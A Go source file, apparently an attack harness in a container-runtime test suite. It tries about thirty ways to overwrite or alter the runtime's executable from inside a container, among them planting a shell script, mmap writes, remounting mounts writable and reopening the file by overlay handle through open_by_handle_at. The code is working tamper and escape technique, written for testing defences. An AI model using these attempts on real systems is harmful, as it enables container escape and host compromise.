package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// target is the runtime's file, as the attacker holds it.
type target struct {
	fd   int    // O_PATH
	path string // that opens it anew
}

// attempt is one thing to do to the runtime's file. Each leaves its descriptors closed, and what is no
// content as it was.
type attempt struct {
	name string
	do   func(target) error
}

// planted is what the attacker writes: the host that executes it runs the attacker's code.
const planted = "#!/bin/sh\necho planted\nexit 0\n"

// attempts are made in this order: a mapping needs a file that is not empty, and what is written last is to stay.
var attempts = []attempt{
	// Content.
	{"open", opened(unix.O_WRONLY, nothing)},
	{"mmap", opened(unix.O_RDWR, mapped)},
	{"mprotect", opened(unix.O_RDWR, protected)},
	{"punch", opened(unix.O_RDWR, fallocated(unix.FALLOC_FL_PUNCH_HOLE|unix.FALLOC_FL_KEEP_SIZE))},
	{"grow", opened(unix.O_RDWR, fallocated(0))},
	{"ftruncate", opened(unix.O_RDWR, func(fd int) error { return unix.Ftruncate(fd, 1) })},
	{"truncate", func(t target) error { return unix.Truncate(t.path, 1) }},
	{"open-trunc", opened(unix.O_RDWR|unix.O_TRUNC, nothing)},
	{"write", opened(unix.O_WRONLY, plant)},
	{"handle", byHandle},
	// The mount it is on.
	{"remount", func(t target) error { return unix.Mount("", t.path, "", unix.MS_REMOUNT|unix.MS_BIND, "") }},
	{"mount-setattr", writableMount},
	{"open-tree", clonedMount},
	// What is no content.
	{"seal", opened(unix.O_RDWR, func(fd int) error { return fcntl(fd, unix.F_ADD_SEALS, unix.F_SEAL_FUTURE_WRITE) })},
	{"chmod-000", moded(0)},
	{"chmod-setuid", moded(0o4755)},
	{"chown", owned},
	{"utimes", func(t target) error { return unix.Utimes(t.path, []unix.Timeval{{Sec: 1}, {Sec: 1}}) }},
	{"xattr-user", attributed("user.initbench", []byte("x"))},
	{"xattr-trusted", attributed("trusted.initbench", []byte("x"))},
	{"xattr-capability", attributed("security.capability", noCapabilities)},
	{"immutable", opened(unix.O_RDONLY, flagged)},
	{"link", func(t target) error {
		err := unix.Linkat(unix.AT_FDCWD, t.path, unix.AT_FDCWD, "/stolen", unix.AT_SYMLINK_FOLLOW)
		return undone(err, func() error { return unix.Unlink("/stolen") })
	}},
	{"flock", opened(unix.O_RDONLY, func(fd int) error { return unix.Flock(fd, unix.LOCK_EX|unix.LOCK_NB) })},
	{"lease-read", opened(unix.O_RDONLY, func(fd int) error { return fcntl(fd, unix.F_SETLEASE, unix.F_RDLCK) })},
	{"lease-write", opened(unix.O_RDONLY, func(fd int) error { return fcntl(fd, unix.F_SETLEASE, unix.F_WRLCK) })},
	{"inotify", watched},
	{"fanotify-permission", guarded},
}

// opened opens the file anew for what is to be done.
func opened(flags int, do func(fd int) error) func(target) error {
	return func(t target) error {
		fd, err := unix.Open(t.path, flags|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		return closing(fd, do(fd))
	}
}

func closing(fd int, err error) error {
	cerr := unix.Close(fd)
	if err != nil {
		return err // alone: an answer is one errno
	}
	return cerr
}

// undone takes back what could be done.
func undone(err error, undo func() error) error {
	if err != nil {
		return err
	}
	return undo()
}

func nothing(int) error { return nil }

func fcntl(fd, cmd, arg int) error {
	_, err := unix.FcntlInt(uintptr(fd), cmd, arg)
	return err
}

// plant writes through a descriptor.
func plant(fd int) error {
	_, err := unix.Pwrite(fd, []byte(planted), 0)
	return err
}

// mapped writes one byte through a shared mapping.
func mapped(fd int) error {
	m, err := unix.Mmap(fd, 0, os.Getpagesize(), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	m[0] ^= 0xff
	return unix.Munmap(m)
}

// protected maps for reading, and turns that into writing afterwards.
func protected(fd int) error {
	m, err := unix.Mmap(fd, 0, os.Getpagesize(), unix.PROT_READ, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	err = unix.Mprotect(m, unix.PROT_READ|unix.PROT_WRITE)
	if err == nil {
		m[0] ^= 0xff
	}
	return errors.Join(err, unix.Munmap(m))
}

// fallocated changes the first page, or adds one at the end.
func fallocated(mode uint32) func(fd int) error {
	return func(fd int) error {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			return err
		}
		at := int64(0)
		if mode == 0 {
			at = st.Size
		}
		for {
			if err := unix.Fallocate(fd, mode, at, int64(os.Getpagesize())); !errors.Is(err, unix.EINTR) {
				return err
			}
		}
	}
}

// byHandle opens the file a second time by way of another mount of its file system, the container's own root, which
// can be written to. It takes CAP_DAC_READ_SEARCH alone.
func byHandle(t target) error {
	handle, err := handleOf(t.fd)
	if err != nil {
		return err
	}
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(root, handle, unix.O_RDWR|unix.O_CLOEXEC)
	if err != nil {
		return closing(root, err)
	}
	return closing(root, closing(fd, plantIfSame(fd, t.fd)))
}

// plantIfSame keeps a handle of another file system, which may mean anything here, from doing damage.
func plantIfSame(fd, want int) error {
	var a, b unix.Stat_t
	if err := errors.Join(unix.Fstat(fd, &a), unix.Fstat(want, &b)); err != nil {
		return err
	}
	if a.Size != b.Size || a.Mtim != b.Mtim {
		return unix.ESTALE
	}
	return plant(fd)
}

// atHandleFID is AT_HANDLE_FID of <linux/fcntl.h>.
const atHandleFID = 0x200

// handleOf returns the file's handle. An overlay has none to open files by, but since Linux 6.6 one to tell them apart
// (AT_HANDLE_FID), and inside of it lies that of the file below.
func handleOf(fd int) (unix.FileHandle, error) {
	handle, _, err := unix.NameToHandleAt(fd, "", unix.AT_EMPTY_PATH)
	if !errors.Is(err, unix.EOPNOTSUPP) {
		return handle, err
	}
	handle, _, ferr := unix.NameToHandleAt(fd, "", unix.AT_EMPTY_PATH|atHandleFID)
	if ferr != nil {
		return handle, err
	}
	return below(handle)
}

// below takes an overlay's handle apart: struct ovl_fh of fs/overlayfs/overlayfs.h, three bytes of padding before it.
func below(handle unix.FileHandle) (unix.FileHandle, error) {
	const padding, header = 3, 21
	b := handle.Bytes()
	if len(b) < padding+header || b[padding+1] != 0xfb {
		return handle, fmt.Errorf("%x is no overlay's handle", b)
	}
	return unix.NewFileHandle(int32(b[padding+4]), b[padding+header:]), nil
}

// writableMount is remount by the newer call, which also changes mounts that are attached nowhere.
func writableMount(t target) error {
	return unix.MountSetattr(t.fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
}

// clonedMount takes a copy of the mount, which would be the attacker's to change.
func clonedMount(t target) error {
	fd, err := unix.OpenTree(t.fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	if err != nil {
		return err
	}
	return closing(fd, writableMount(target{fd: fd}))
}

func moded(mode uint32) func(target) error {
	return func(t target) error {
		var st unix.Stat_t
		if err := unix.Stat(t.path, &st); err != nil {
			return err
		}
		return undone(unix.Chmod(t.path, mode), func() error { return unix.Chmod(t.path, st.Mode&0o7777) })
	}
}

func owned(t target) error {
	return undone(unix.Chown(t.path, 1, 1), func() error { return unix.Chown(t.path, 0, 0) })
}

func attributed(name string, value []byte) func(target) error {
	return func(t target) error {
		return undone(unix.Setxattr(t.path, name, value, 0), func() error { return unix.Removexattr(t.path, name) })
	}
}

// noCapabilities is a struct vfs_cap_data of revision 2 without any.
var noCapabilities = append(binary.LittleEndian.AppendUint32(nil, 0x02000000), make([]byte, 16)...)

// fsImmutable is FS_IMMUTABLE_FL of <linux/fs.h>.
const fsImmutable = 0x10

func flagged(fd int) error {
	before, err := unix.IoctlGetUint32(fd, unix.FS_IOC_GETFLAGS)
	if err != nil {
		return err
	}
	set := func(flags uint32) error { return unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, int(flags)) }
	return undone(set(before|fsImmutable), func() error { return set(before) })
}

func watched(t target) error {
	fd, err := unix.InotifyInit1(unix.IN_CLOEXEC)
	if err != nil {
		return err
	}
	_, err = unix.InotifyAddWatch(fd, t.path, unix.IN_OPEN)
	return closing(fd, err)
}

// guarded would be asked before each execution of the file, and could refuse it.
func guarded(t target) error {
	fd, err := unix.FanotifyInit(unix.FAN_CLASS_CONTENT|unix.FAN_CLOEXEC, unix.O_RDONLY)
	if err != nil {
		return err
	}
	return closing(fd, unix.FanotifyMark(fd, unix.FAN_MARK_ADD, unix.FAN_OPEN_EXEC_PERM, unix.AT_FDCWD, t.path))
}
